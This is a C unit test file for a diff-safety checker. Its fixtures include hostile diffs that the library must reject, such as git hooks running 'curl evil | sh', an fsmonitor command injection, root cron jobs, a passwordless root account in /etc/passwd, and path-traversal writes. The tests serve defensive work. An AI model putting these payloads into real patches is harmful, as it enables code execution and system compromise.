/* SPDX-License-Identifier: MIT */
/*
 * sbx_patch (lib/patch/): the safety rules, each unsafe form alone and hidden
 * among safe files; malformed patches; limits; what a multi-file git diff
 * and plain `diff -u` output are read as; file operations against a base;
 * verdicts against a base compared with `git apply --check`; arguments and
 * the error contract; allocation failures. The check against the real
 * history of this project is test_patch_history.c.
 */
#include <archive.h>
#include <archive_entry.h>
#include <jansson.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "harness.h"
#include "patch_git.h"

/* ---- fixtures -------------------------------------------------------------------------------- */

/* The base repository's files (tests/unit/test_patch.c's diffs were made by
 * git against exactly these contents: their index lines name these blobs). */
static const char base_readme[] = "hello\nworld\n";
static const char base_main_c[] = "int main(void)\n{\n    int a = 1;\n    int b = 2;\n    return a + b;\n}\n";
static const char base_run_sh[] = "#!/bin/sh\necho run\n";
static const char base_name_txt[] = "one\ntwo\nthree\nfour\nfive\nsix\nseven\neight\nnine\nten\n";
static const char base_gone_txt[] = "bye\n";

/* A git diff (git diff --binary --full-index -M) of the base: an added file,
 * a deletion, a binary change, a rename with a change, a change, a mode
 * change. */
static const char multi_diff[] =
    "diff --git a/docs/new.md b/docs/new.md\n"
    "new file mode 100644\n"
    "index 0000000000000000000000000000000000000000..550e149312bd71f757a91987c1ee7829ff9a3c85\n"
    "--- /dev/null\n"
    "+++ b/docs/new.md\n"
    "@@ -0,0 +1,3 @@\n"
    "+# New\n"
    "+\n"
    "+text\n"
    "diff --git a/gone.txt b/gone.txt\n"
    "deleted file mode 100644\n"
    "index b023018cabc396e7692c70bbf5784a93d3f738ab..0000000000000000000000000000000000000000\n"
    "--- a/gone.txt\n"
    "+++ /dev/null\n"
    "@@ -1 +0,0 @@\n"
    "-bye\n"
    "diff --git a/img.bin b/img.bin\n"
    "index 96eb299ab61d459148b19b03f71386abcec74669..60051deb32a631ffe615c785bf60e86782f5220a 100644\n"
    "GIT binary patch\n"
    "literal 64\n"
    "zcmZ>;x3jgewz9M^H#0RcHZnBO*VEO}*3#5aS5s9{R#H@umy?x|mXeeZ7ZVi`77`TT\n"
    "T=i}w!=HldFXJchyW?}>YU9Sis\n"
    "\n"
    "literal 64\n"
    "zcmZQzWMXDvWn<^y<l^Sx<>MC+6cQE@6%&_`l#-T_m6KOcR8m$^Ra4i{)Y8_`)zddH\n"
    "TG%_|ZH8Z!cw6eCbwX+8Rs^ACV\n"
    "\n"
    "diff --git a/old/name.txt b/new/name.txt\n"
    "similarity index 89%\n"
    "rename from old/name.txt\n"
    "rename to new/name.txt\n"
    "index c9e9e05f445e6b772f19fea1449759b7458a446e..7155914b3e2999c8b0588cbf18442cd9975fa0ce 100644\n"
    "--- a/old/name.txt\n"
    "+++ b/new/name.txt\n"
    "@@ -2,7 +2,7 @@ one\n"
    " two\n"
    " three\n"
    " four\n"
    "-five\n"
    "+FIVE\n"
    " six\n"
    " seven\n"
    " eight\n"
    "diff --git a/src/main.c b/src/main.c\n"
    "index d612a14fed4f0b00875801e0b048c3e3b8aa3a25..1b7ca44fcad4bcb2629894df9ded70743d51e773 100644\n"
    "--- a/src/main.c\n"
    "+++ b/src/main.c\n"
    "@@ -1,6 +1,6 @@\n"
    " int main(void)\n"
    " {\n"
    "     int a = 1;\n"
    "-    int b = 2;\n"
    "+    int b = 3;\n"
    "     return a + b;\n"
    " }\n"
    "diff --git a/tools/run.sh b/tools/run.sh\n"
    "old mode 100644\n"
    "new mode 100755\n";
/* git patch-id --stable < multi_diff */
static const char multi_diff_id[] = "811211632d8cbb60423f55ad9da93ea072468e34";

/* `diff -ru a b` output: timestamps after a tab, and an "Only in" line. */
static const char plain_diff[] =
    "diff -ru a/README b/README\n"
    "--- a/README\t2024-01-02 03:04:05.000000000 +0000\n"
    "+++ b/README\t2024-01-02 03:04:06.000000000 +0000\n"
    "@@ -1,2 +1,2 @@\n"
    " hello\n"
    "-world\n"
    "+there\n"
    "Only in b: extra.txt\n"
    "diff -ru a/src/main.c b/src/main.c\n"
    "--- a/src/main.c\t2024-01-02 03:04:05.000000000 +0000\n"
    "+++ b/src/main.c\t2024-01-02 03:04:06.000000000 +0000\n"
    "@@ -1,6 +1,6 @@\n"
    " int main(void)\n"
    " {\n"
    "     int a = 1;\n"
    "-    int b = 2;\n"
    "+    int b = 3;\n"
    "     return a + b;\n"
    " }\n";

/* Safe neighbours for the unsafe forms. */
static const char readme_diff[] =
    "diff --git a/README b/README\n"
    "index 94954abda49de8615a048f8d2e64b5de848e27a1..c4c04173748f9107f27a8a2e4007ec50c88da299 100644\n"
    "--- a/README\n"
    "+++ b/README\n"
    "@@ -1,2 +1,2 @@\n"
    " hello\n"
    "-world\n"
    "+there\n";
static const char readme_diff_id[] = "b3bec06a190e501dc20ad0c3d1cc52832c3474c7";
static const char main_c_diff[] =
    "diff --git a/src/main.c b/src/main.c\n"
    "index d612a14fed4f0b00875801e0b048c3e3b8aa3a25..1b7ca44fcad4bcb2629894df9ded70743d51e773 100644\n"
    "--- a/src/main.c\n"
    "+++ b/src/main.c\n"
    "@@ -1,6 +1,6 @@\n"
    " int main(void)\n"
    " {\n"
    "     int a = 1;\n"
    "-    int b = 2;\n"
    "+    int b = 3;\n"
    "     return a + b;\n"
    " }\n";

/* big.txt: "line 1" ... "line 100" (792 bytes); this diff keeps its size. */
static const char big_diff[] =
    "diff --git a/big.txt b/big.txt\n"
    "index 8a34ce14a29d5dd2d5a6f865e02f17f2b71e236e..b05e2e91ce410f5b70eed5c82ae2232282f3c7ea 100644\n"
    "--- a/big.txt\n"
    "+++ b/big.txt\n"
    "@@ -47,7 +47,7 @@ line 46\n"
    " line 47\n"
    " line 48\n"
    " line 49\n"
    "-line 50\n"
    "+LINE 50\n"
    " line 51\n"
    " line 52\n"
    " line 53\n";

static sbx_status load(sbx_patch *p, const char *text)
{
    return sbx_patch_load_data(p, (const uint8_t *)text, strlen(text));
}

static sbx_status add(sbx_patch *p, sbx_patch_change c, const char *path, const char *data, uint32_t mode)
{
    return sbx_patch_add_file(p, c, path, (const uint8_t *)data, data ? strlen(data) : 0, mode);
}

static char *cat3(const char *a, const char *b, const char *c)
{
    size_t na = strlen(a), nb = strlen(b), nc = strlen(c);
    char *s = malloc(na + nb + nc + 1);
    ck_assert_ptr_nonnull(s);
    memcpy(s, a, na);
    memcpy(s + na, b, nb);
    memcpy(s + na + nb, c, nc + 1);
    return s;
}

/* The index of the file at path in p, or -1. */
static long file_index(const sbx_patch *p, const char *path)
{
    for (size_t i = 0; i < sbx_patch_file_count(p); i++)
        if (sbx_patch_file_path(p, i) && strcmp(sbx_patch_file_path(p, i), path) == 0)
            return (long)i;
    return -1;
}

/* A temporary folder (its name in dir, room for 64 bytes). */
static void make_tmpdir(char *dir)
{
    strcpy(dir, "/tmp/sbx-patch-XXXXXX");
    ck_assert_ptr_nonnull(mkdtemp(dir));
}

static void remove_tree(const char *dir)
{
    if (dir[0])
        t_sh("rm -rf '%s'", dir);
}

/* The base repository at dir (a new temporary folder): one commit "base" on
 * branch main (HEAD), and a branch "other" one commit later where
 * src/main.c has b = 5. */
static void make_base_repo(char *dir)
{
    uint8_t img[64];
    char big[1024];
    size_t n = 0;
    t_git_env();
    make_tmpdir(dir);
    for (int i = 0; i < 64; i++)
        img[i] = (uint8_t)i;
    for (int i = 1; i <= 100; i++)
        n += (size_t)snprintf(big + n, sizeof big - n, "line %d\n", i);
    ck_assert_uint_eq(n, 792);
    t_write_file(dir, "README", base_readme, strlen(base_readme), 0);
    t_write_file(dir, "src/main.c", base_main_c, strlen(base_main_c), 0);
    t_write_file(dir, "tools/run.sh", base_run_sh, strlen(base_run_sh), 0);
    t_write_file(dir, "old/name.txt", base_name_txt, strlen(base_name_txt), 0);
    t_write_file(dir, "gone.txt", base_gone_txt, strlen(base_gone_txt), 0);
    t_write_file(dir, "img.bin", img, sizeof img, 0);
    t_write_file(dir, "big.txt", big, n, 0);
    ck_assert_int_eq(t_sh("cd '%s' && git init -q -b main . && git add -A && git commit -q -m base && "
                          "git checkout -q -b other && sed -i 's/b = 2/b = 5/' src/main.c && "
                          "git commit -q -am other && git checkout -q main",
                          dir),
                     0);
}

/* git's verdict for text on rev of repo (1 applies). */
static int git_applies_text(const char *repo, const char *rev, const char *text, size_t len)
{
    char diff[128], index[128];
    int r;
    snprintf(diff, sizeof diff, "%s.diff", repo);
    snprintf(index, sizeof index, "%s.index", repo);
    FILE *f = fopen(diff, "wb");
    ck_assert_ptr_nonnull(f);
    ck_assert_uint_eq(fwrite(text, 1, len, f), len);
    fclose(f);
    r = t_git_applies(repo, rev, diff, index);
    unlink(diff);
    unlink(index);
    return r;
}

/* git apply --check's exit code for text on HEAD of repo. */
static int git_apply_code(const char *repo, const char *text)
{
    char diff[128], index[128];
    int st;
    FILE *f;
    snprintf(diff, sizeof diff, "%s.diff", repo);
    snprintf(index, sizeof index, "%s.index", repo);
    f = fopen(diff, "wb");
    ck_assert_ptr_nonnull(f);
    ck_assert_uint_eq(fwrite(text, 1, strlen(text), f), strlen(text));
    fclose(f);
    ck_assert_int_eq(t_sh("GIT_INDEX_FILE='%s' git -C '%s' read-tree HEAD", index, repo), 0);
    st = t_sh("GIT_INDEX_FILE='%s' git -C '%s' apply --check --cached '%s' 2>/dev/null", index, repo, diff);
    unlink(diff);
    unlink(index);
    return st;
}

/* ---- arguments, names, the error contract ---------------------------------------------------- */

START_TEST(test_patch_null_and_arguments)
{
    sbx_patch *p = sbx_patch_new();
    uint8_t *out = NULL;
    char *json = NULL;
    size_t len = 0;
    ck_assert_ptr_nonnull(p);
    sbx_patch_free(NULL);
    ck_assert_str_eq(sbx_patch_last_error(NULL), "invalid argument: the handle is NULL");
    ck_assert_int_eq(sbx_patch_set_limits(NULL, 0, 0, 0), SBX_E_INVALID_ARG);
    ck_assert_int_eq(sbx_patch_set_base(NULL, "/tmp", NULL), SBX_E_INVALID_ARG);
    ck_assert_int_eq(sbx_patch_load_data(NULL, (const uint8_t *)"x", 1), SBX_E_INVALID_ARG);
    ck_assert_int_eq(sbx_patch_load_file(NULL, "/dev/null"), SBX_E_INVALID_ARG);
    ck_assert_int_eq(add(NULL, SBX_PATCH_ADDED, "a", "x", 0), SBX_E_INVALID_ARG);
    ck_assert_int_eq(sbx_patch_check(NULL), SBX_E_INVALID_ARG);
    ck_assert_int_eq(sbx_patch_save_data(NULL, &out, &len), SBX_E_INVALID_ARG);
    ck_assert_int_eq(sbx_patch_to_json(NULL, &json), SBX_E_INVALID_ARG);
    ck_assert_int_eq(sbx_patch_save_tree_file(NULL, "/tmp/x.tar.gz"), SBX_E_INVALID_ARG);
    ck_assert_int_eq(sbx_patch_get_verdict(NULL), SBX_PATCH_UNCHECKED);
    ck_assert_int_eq(sbx_patch_broken_rule(NULL), SBX_PATCH_RULE_NONE);
    ck_assert_uint_eq(sbx_patch_file_count(NULL), 0);
    ck_assert_ptr_null(sbx_patch_file_path(NULL, 0));
    ck_assert_ptr_null(sbx_patch_file_old_path(NULL, 0));
    ck_assert_int_eq(sbx_patch_file_change(NULL, 0), SBX_PATCH_CHANGE_NONE);
    ck_assert_uint_eq(sbx_patch_file_old_mode(NULL, 0), 0);
    ck_assert_uint_eq(sbx_patch_file_new_mode(NULL, 0), 0);
    ck_assert_uint_eq(sbx_patch_file_additions(NULL, 0), 0);
    ck_assert_uint_eq(sbx_patch_file_deletions(NULL, 0), 0);
    ck_assert_int_eq(sbx_patch_file_binary(NULL, 0), 0);

    /* NULL arguments on a good handle; the message names the argument. */
    ck_assert_int_eq(sbx_patch_load_data(p, NULL, 4), SBX_E_INVALID_ARG);
    ck_assert_str_ne(sbx_patch_last_error(p), "");
    ck_assert_int_eq(sbx_patch_load_file(p, NULL), SBX_E_INVALID_ARG);
    ck_assert_str_ne(sbx_patch_last_error(p), "");
    ck_assert_int_eq(sbx_patch_set_base(p, NULL, NULL), SBX_E_INVALID_ARG);
    ck_assert_str_ne(sbx_patch_last_error(p), "");
    ck_assert_int_eq(add(p, SBX_PATCH_ADDED, NULL, "x", 0), SBX_E_INVALID_ARG);
    ck_assert_int_eq(sbx_patch_save_data(p, NULL, &len), SBX_E_INVALID_ARG);
    ck_assert_int_eq(sbx_patch_to_json(p, NULL), SBX_E_INVALID_ARG);
    ck_assert_int_eq(sbx_patch_save_tree_file(p, NULL), SBX_E_INVALID_ARG);

    /* Before a load: nothing to report, nothing to check or save. */
    ck_assert_int_eq(sbx_patch_get_verdict(p), SBX_PATCH_UNCHECKED);
    ck_assert_int_eq(sbx_patch_broken_rule(p), SBX_PATCH_RULE_NONE);
    ck_assert_uint_eq(sbx_patch_file_count(p), 0);
    ck_assert_str_eq(sbx_patch_id(p), "");
    ck_assert_int_eq(sbx_patch_check(p), SBX_E_MISUSE);
    ck_assert_str_ne(sbx_patch_last_error(p), "");
    ck_assert_int_eq(sbx_patch_save_data(p, &out, &len), SBX_E_MISUSE);
    ck_assert_ptr_null(out);
    ck_assert_int_eq(sbx_patch_save_tree_file(p, "/tmp/sbx-patch-never.tar.gz"), SBX_E_MISUSE);
    ck_assert_int_eq(access("/tmp/sbx-patch-never.tar.gz", F_OK), -1);

    /* Loaded: out-of-range indexes, a second load, late limits. */
    ck_assert_int_eq(load(p, readme_diff), SBX_OK);
    ck_assert_uint_eq(sbx_patch_file_count(p), 1);
    ck_assert_ptr_null(sbx_patch_file_path(p, 1));
    ck_assert_ptr_null(sbx_patch_file_old_path(p, 1));
    ck_assert_ptr_null(sbx_patch_file_old_path(p, (size_t)-1));
    ck_assert_int_eq(sbx_patch_file_change(p, 1), SBX_PATCH_CHANGE_NONE);
    ck_assert_int_eq(sbx_patch_file_change(p, (size_t)-1), SBX_PATCH_CHANGE_NONE);
    ck_assert_uint_eq(sbx_patch_file_old_mode(p, 1), 0);
    ck_assert_uint_eq(sbx_patch_file_new_mode(p, 1), 0);
    ck_assert_uint_eq(sbx_patch_file_additions(p, 1), 0);
    ck_assert_uint_eq(sbx_patch_file_deletions(p, 1), 0);
    ck_assert_int_eq(sbx_patch_file_binary(p, 1), 0);
    ck_assert_int_eq(load(p, readme_diff), SBX_E_MISUSE);
    ck_assert_str_ne(sbx_patch_last_error(p), "");
    ck_assert_int_eq(sbx_patch_set_limits(p, 1, 1, 1), SBX_E_MISUSE);
    ck_assert_int_eq(add(p, SBX_PATCH_ADDED, "x.txt", "x\n", 0), SBX_E_MISUSE);
    /* The first load is untouched by the refused ones. */
    ck_assert_int_eq(sbx_patch_get_verdict(p), SBX_PATCH_SAFE);
    ck_assert_str_eq(sbx_patch_id(p), readme_diff_id);
    sbx_patch_free(p);
}
END_TEST

START_TEST(test_patch_names)
{
    static const sbx_patch_verdict verdicts[] = {SBX_PATCH_UNCHECKED, SBX_PATCH_SAFE,   SBX_PATCH_APPLIES,
                                                 SBX_PATCH_DOES_NOT_APPLY, SBX_PATCH_UNSAFE, SBX_PATCH_MALFORMED,
                                                 SBX_PATCH_TOO_LARGE};
    static const sbx_patch_rule rules[] = {SBX_PATCH_RULE_NONE,    SBX_PATCH_RULE_ABSOLUTE, SBX_PATCH_RULE_DOTDOT,
                                           SBX_PATCH_RULE_GIT_DIR, SBX_PATCH_RULE_SYMLINK,  SBX_PATCH_RULE_GITLINK,
                                           SBX_PATCH_RULE_BAD_PATH};
    ck_assert_str_eq(sbx_patch_verdict_name(SBX_PATCH_APPLIES), "applies");
    ck_assert_str_eq(sbx_patch_verdict_name(SBX_PATCH_DOES_NOT_APPLY), "does-not-apply");
    ck_assert_str_eq(sbx_patch_rule_name(SBX_PATCH_RULE_ABSOLUTE), "absolute");
    ck_assert_str_eq(sbx_patch_rule_name(SBX_PATCH_RULE_DOTDOT), "dotdot");
    ck_assert_str_eq(sbx_patch_rule_name(SBX_PATCH_RULE_GIT_DIR), "git-dir");
    ck_assert_str_eq(sbx_patch_verdict_name((sbx_patch_verdict)7), "unknown");
    ck_assert_str_eq(sbx_patch_verdict_name((sbx_patch_verdict)-1), "unknown");
    ck_assert_str_eq(sbx_patch_rule_name((sbx_patch_rule)7), "unknown");
    ck_assert_str_eq(sbx_patch_rule_name((sbx_patch_rule)-1), "unknown");
    /* Every known value has a name of its own. */
    for (size_t i = 0; i < SBX__ARRAY_LEN(verdicts); i++) {
        const char *a = sbx_patch_verdict_name(verdicts[i]);
        ck_assert_ptr_nonnull(a);
        ck_assert_str_ne(a, "unknown");
        ck_assert_str_ne(a, "");
        for (size_t j = 0; j < i; j++)
            ck_assert_str_ne(a, sbx_patch_verdict_name(verdicts[j]));
    }
    for (size_t i = 0; i < SBX__ARRAY_LEN(rules); i++) {
        const char *a = sbx_patch_rule_name(rules[i]);
        ck_assert_ptr_nonnull(a);
        ck_assert_str_ne(a, "unknown");
        ck_assert_str_ne(a, "");
        for (size_t j = 0; j < i; j++)
            ck_assert_str_ne(a, sbx_patch_rule_name(rules[j]));
    }
}
END_TEST

START_TEST(test_patch_error_contract)
{
    char repo[64], msg[512];
    sbx_patch *p = sbx_patch_new();
    make_base_repo(repo);
    ck_assert_str_eq(sbx_patch_last_error(p), "");

    /* A failure sets it; getters and last_error itself leave it alone. */
    ck_assert_int_eq(sbx_patch_set_base(p, "/nonexistent/sbx-repo", NULL), SBX_E_NOT_FOUND);
    ck_assert_msg(strstr(sbx_patch_last_error(p), "/nonexistent/sbx-repo"), "%s", sbx_patch_last_error(p));
    snprintf(msg, sizeof msg, "%s", sbx_patch_last_error(p));
    (void)sbx_patch_get_verdict(p);
    (void)sbx_patch_broken_rule(p);
    (void)sbx_patch_file_count(p);
    (void)sbx_patch_file_path(p, 0);
    (void)sbx_patch_id(p);
    (void)sbx_patch_verdict_name(SBX_PATCH_SAFE);
    (void)sbx_patch_last_error(p);
    ck_assert_str_eq(sbx_patch_last_error(p), msg);

    /* A success clears it. */
    ck_assert_int_eq(sbx_patch_set_limits(p, 0, 0, 0), SBX_OK);
    ck_assert_str_eq(sbx_patch_last_error(p), "");
    ck_assert_int_eq(sbx_patch_set_base(p, repo, "no-such-branch"), SBX_E_NOT_FOUND);
    ck_assert_msg(strstr(sbx_patch_last_error(p), "no-such-branch"), "%s", sbx_patch_last_error(p));
    ck_assert_int_eq(sbx_patch_set_base(p, repo, NULL), SBX_OK);
    ck_assert_str_eq(sbx_patch_last_error(p), "");
    ck_assert_int_eq(sbx_patch_load_data(p, NULL, 1), SBX_E_INVALID_ARG);
    ck_assert_str_ne(sbx_patch_last_error(p), "");
    ck_assert_int_eq(load(p, readme_diff), SBX_OK);
    ck_assert_str_eq(sbx_patch_last_error(p), "");
    ck_assert_int_eq(sbx_patch_save_tree_file(p, NULL), SBX_E_INVALID_ARG);
    ck_assert_str_ne(sbx_patch_last_error(p), "");
    ck_assert_int_eq(sbx_patch_check(p), SBX_OK);
    ck_assert_str_eq(sbx_patch_last_error(p), "");
    ck_assert_int_eq(sbx_patch_get_verdict(p), SBX_PATCH_APPLIES);
    sbx_patch_free(p);

    /* The base can be named by branch, by commit id, by HEAD. */
    p = sbx_patch_new();
    ck_assert_int_eq(sbx_patch_set_base(p, repo, "main"), SBX_OK);
    ck_assert_int_eq(sbx_patch_set_base(p, repo, "HEAD"), SBX_OK);
    {
        int st;
        char *id = t_sh_out(NULL, &st, "git -C '%s' rev-parse HEAD", repo);
        ck_assert_int_eq(st, 0);
        id[40] = '\0';
        ck_assert_int_eq(sbx_patch_set_base(p, repo, id), SBX_OK);
        free(id);
    }
    {
        char sub[128];
        snprintf(sub, sizeof sub, "%s/.git", repo);
        ck_assert_int_eq(sbx_patch_set_base(p, sub, NULL), SBX_OK); /* the git directory itself */
    }
    sbx_patch_free(p);
    remove_tree(repo);
}
END_TEST

START_TEST(test_patch_load_file)
{
    char dir[64], path[128];
    sbx_patch *p = sbx_patch_new();
    make_tmpdir(dir);
    snprintf(path, sizeof path, "%s/multi.diff", dir);
    t_write_file(dir, "multi.diff", multi_diff, strlen(multi_diff), 0);
    ck_assert_int_eq(sbx_patch_load_file(p, "/nonexistent/x.diff"), SBX_E_IO);
    ck_assert_msg(strstr(sbx_patch_last_error(p), "/nonexistent/x.diff"), "%s", sbx_patch_last_error(p));
    ck_assert_int_eq(sbx_patch_load_file(p, dir), SBX_E_IO); /* a folder */
    ck_assert_int_eq(sbx_patch_load_file(p, path), SBX_OK);
    ck_assert_str_eq(sbx_patch_last_error(p), "");
    ck_assert_int_eq(sbx_patch_get_verdict(p), SBX_PATCH_SAFE);
    ck_assert_uint_eq(sbx_patch_file_count(p), 6);
    ck_assert_str_eq(sbx_patch_id(p), multi_diff_id);
    sbx_patch_free(p);
    remove_tree(dir);
}
END_TEST

/* ---- the safety rules ------------------------------------------------------------------------ */

struct unsafe_case {
    const char *name;
    const char *diff;
    sbx_patch_rule rule;
    const char *path; /* what last_error must name */
};

static const struct unsafe_case unsafe_cases[] = {
    /* Absolute paths: git reads "a//etc/passwd" as "/etc/passwd". */
    {"absolute, added",
     "diff --git a//etc/passwd b//etc/passwd\nnew file mode 100644\n--- /dev/null\n+++ b//etc/passwd\n"
     "@@ -0,0 +1 @@\n+root::0:0::/:/bin/sh\n",
     SBX_PATCH_RULE_ABSOLUTE, "/etc/passwd"},
    {"absolute, modified",
     "diff --git a//etc/hosts b//etc/hosts\n--- a//etc/hosts\n+++ b//etc/hosts\n@@ -1 +1 @@\n-127.0.0.1 localhost\n"
     "+10.0.0.1 localhost\n",
     SBX_PATCH_RULE_ABSOLUTE, "/etc/hosts"},
    {"absolute, deleted",
     "diff --git a//etc/motd b//etc/motd\ndeleted file mode 100644\n--- a//etc/motd\n+++ /dev/null\n"
     "@@ -1 +0,0 @@\n-hi\n",
     SBX_PATCH_RULE_ABSOLUTE, "/etc/motd"},
    /* Absolute before the first component is stripped: patch -p0 would
     * write there (doc/patch.md). */
    {"absolute, plain diff -u, added",
     "--- /dev/null\n+++ /etc/cron.d/job\n@@ -0,0 +1 @@\n+* * * * * root sh\n", SBX_PATCH_RULE_ABSOLUTE,
     "/etc/cron.d/job"},
    {"absolute, plain diff -u, modified",
     "--- /etc/passwd\t2024-01-02 03:04:05.000000000 +0000\n+++ /etc/passwd\t2024-01-02 03:04:06.000000000 +0000\n"
     "@@ -1 +1 @@\n-a\n+b\n",
     SBX_PATCH_RULE_ABSOLUTE, "/etc/passwd"},
    {"absolute, +++ line of a git diff",
     "diff --git a/x b/x\n--- a/x\n+++ /etc/cron.d/job\n@@ -1 +1 @@\n-a\n+b\n", SBX_PATCH_RULE_ABSOLUTE,
     "/etc/cron.d/job"},
    /* ".." components. */
    {"dotdot, leading",
     "diff --git a/../outside.txt b/../outside.txt\nnew file mode 100644\n--- /dev/null\n+++ b/../outside.txt\n"
     "@@ -0,0 +1 @@\n+x\n",
     SBX_PATCH_RULE_DOTDOT, "../outside.txt"},
    {"dotdot, inner",
     "diff --git a/docs/../../etc/cron.d/job b/docs/../../etc/cron.d/job\nnew file mode 100644\n--- /dev/null\n"
     "+++ b/docs/../../etc/cron.d/job\n@@ -0,0 +1 @@\n+* * * * * root sh\n",
     SBX_PATCH_RULE_DOTDOT, "docs/../../etc/cron.d/job"},
    {"dotdot, modified",
     "diff --git a/src/../../x.c b/src/../../x.c\n--- a/src/../../x.c\n+++ b/src/../../x.c\n@@ -1 +1 @@\n-a\n+b\n",
     SBX_PATCH_RULE_DOTDOT, "src/../../x.c"},
    /* .git at any depth, in any case. */
    {"git dir, config",
     "diff --git a/.git/config b/.git/config\n--- a/.git/config\n+++ b/.git/config\n@@ -1 +1,3 @@\n [core]\n"
     "+[core]\n+\tfsmonitor = sh -c evil\n",
     SBX_PATCH_RULE_GIT_DIR, ".git/config"},
    {"git dir, hook",
     "diff --git a/.git/hooks/pre-commit b/.git/hooks/pre-commit\nnew file mode 100755\n--- /dev/null\n"
     "+++ b/.git/hooks/pre-commit\n@@ -0,0 +1,2 @@\n+#!/bin/sh\n+curl evil | sh\n",
     SBX_PATCH_RULE_GIT_DIR, ".git/hooks/pre-commit"},
    {"git dir, nested hook",
     "diff --git a/a/.git/hooks/pre-commit b/a/.git/hooks/pre-commit\nnew file mode 100755\n--- /dev/null\n"
     "+++ b/a/.git/hooks/pre-commit\n@@ -0,0 +1,2 @@\n+#!/bin/sh\n+curl evil | sh\n",
     SBX_PATCH_RULE_GIT_DIR, "a/.git/hooks/pre-commit"},
    {"git dir, upper case",
     "diff --git a/.GIT/config b/.GIT/config\nnew file mode 100644\n--- /dev/null\n+++ b/.GIT/config\n"
     "@@ -0,0 +1 @@\n+x\n",
     SBX_PATCH_RULE_GIT_DIR, ".GIT/config"},
    {"git dir, mixed case, deep",
     "diff --git a/deep/er/.gIt/info/attributes b/deep/er/.gIt/info/attributes\nnew file mode 100644\n"
     "--- /dev/null\n+++ b/deep/er/.gIt/info/attributes\n@@ -0,0 +1 @@\n+* filter=evil\n",
     SBX_PATCH_RULE_GIT_DIR, "deep/er/.gIt/info/attributes"},
    {"git dir, a .git file (gitdir redirect)",
     "diff --git a/vendor/.Git b/vendor/.Git\nnew file mode 100644\n--- /dev/null\n+++ b/vendor/.Git\n"
     "@@ -0,0 +1 @@\n+gitdir: /tmp/evil\n",
     SBX_PATCH_RULE_GIT_DIR, "vendor/.Git"},
    {"git dir, .git at the root",
     "diff --git a/.git b/.git\nnew file mode 100644\n--- /dev/null\n+++ b/.git\n@@ -0,0 +1 @@\n+gitdir: /tmp/evil\n",
     SBX_PATCH_RULE_GIT_DIR, ".git"},
    {"git dir, deleted",
     "diff --git a/.git/HEAD b/.git/HEAD\ndeleted file mode 100644\n--- a/.git/HEAD\n+++ /dev/null\n"
     "@@ -1 +0,0 @@\n-ref: refs/heads/main\n",
     SBX_PATCH_RULE_GIT_DIR, ".git/HEAD"},
    {"git dir, mode change only",
     "diff --git a/.git/hooks/post-merge b/.git/hooks/post-merge\nold mode 100644\nnew mode 100755\n",
     SBX_PATCH_RULE_GIT_DIR, ".git/hooks/post-merge"},
    /* Symbolic links created or changed. */
    {"symlink created",
     "diff --git a/lnk b/lnk\nnew file mode 120000\n"
     "index 0000000000000000000000000000000000000000..78bc33729bacb569b76aaef40fec807af2ec1274\n"
     "--- /dev/null\n+++ b/lnk\n@@ -0,0 +1 @@\n+../target\n\\ No newline at end of file\n",
     SBX_PATCH_RULE_SYMLINK, "lnk"},
    {"symlink created, harmless target",
     "diff --git a/docs/link b/docs/link\nnew file mode 120000\n--- /dev/null\n+++ b/docs/link\n@@ -0,0 +1 @@\n"
     "+new.md\n\\ No newline at end of file\n",
     SBX_PATCH_RULE_SYMLINK, "docs/link"},
    {"symlink changed",
     "diff --git a/lnk b/lnk\n"
     "index 78bc33729bacb569b76aaef40fec807af2ec1274..27fa34919ae70aa0d7eaccdfbf393cfc440e7d25 120000\n"
     "--- a/lnk\n+++ b/lnk\n@@ -1 +1 @@\n-../target\n\\ No newline at end of file\n+other\n"
     "\\ No newline at end of file\n",
     SBX_PATCH_RULE_SYMLINK, "lnk"},
    /* A mode is a file type and permissions: git takes 120644 as a
     * symbolic link (S_ISLNK) and creates one, 160644 as a gitlink. */
    {"symlink created, mode 120644",
     "diff --git a/lnk b/lnk\nnew file mode 120644\n--- /dev/null\n+++ b/lnk\n@@ -0,0 +1 @@\n+/etc/passwd\n"
     "\\ No newline at end of file\n",
     SBX_PATCH_RULE_SYMLINK, "lnk"},
    {"symlink by a mode change to 120755", "diff --git a/README b/README\nold mode 100644\nnew mode 120755\n",
     SBX_PATCH_RULE_SYMLINK, "README"},
    {"symlink changed, index line mode 120644",
     "diff --git a/lnk b/lnk\n"
     "index 78bc33729bacb569b76aaef40fec807af2ec1274..27fa34919ae70aa0d7eaccdfbf393cfc440e7d25 120644\n"
     "--- a/lnk\n+++ b/lnk\n@@ -1 +1 @@\n-../target\n\\ No newline at end of file\n+other\n"
     "\\ No newline at end of file\n",
     SBX_PATCH_RULE_SYMLINK, "lnk"},
    {"gitlink added, mode 160644",
     "diff --git a/vendor/sub b/vendor/sub\nnew file mode 160644\n--- /dev/null\n+++ b/vendor/sub\n@@ -0,0 +1 @@\n"
     "+Subproject commit 1111111111111111111111111111111111111111\n",
     SBX_PATCH_RULE_GITLINK, "vendor/sub"},
    {"symlink by a mode change",
     "diff --git a/README b/README\nold mode 100644\nnew mode 120000\n", SBX_PATCH_RULE_SYMLINK, "README"},
    /* Gitlinks added or changed. */
    {"gitlink added",
     "diff --git a/vendor/sub b/vendor/sub\nnew file mode 160000\n"
     "index 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111\n"
     "--- /dev/null\n+++ b/vendor/sub\n@@ -0,0 +1 @@\n+Subproject commit 1111111111111111111111111111111111111111\n",
     SBX_PATCH_RULE_GITLINK, "vendor/sub"},
    {"gitlink changed",
     "diff --git a/vendor/sub b/vendor/sub\n"
     "index 1111111111111111111111111111111111111111..2222222222222222222222222222222222222222 160000\n"
     "--- a/vendor/sub\n+++ b/vendor/sub\n@@ -1 +1 @@\n-Subproject commit 1111111111111111111111111111111111111111\n"
     "+Subproject commit 2222222222222222222222222222222222222222\n",
     SBX_PATCH_RULE_GITLINK, "vendor/sub"},
    /* Renames and copies from or to an unsafe path. */
    {"rename from ..",
     "diff --git a/../outside.txt b/inside.txt\nsimilarity index 100%\nrename from ../outside.txt\n"
     "rename to inside.txt\n",
     SBX_PATCH_RULE_DOTDOT, "../outside.txt"},
    {"rename to .git",
     "diff --git a/README b/.git/hooks/post-checkout\nsimilarity index 100%\nrename from README\n"
     "rename to .git/hooks/post-checkout\n",
     SBX_PATCH_RULE_GIT_DIR, ".git/hooks/post-checkout"},
    {"rename to .Git, with a change",
     "diff --git a/README b/x/.Git/config\nsimilarity index 66%\nrename from README\nrename to x/.Git/config\n"
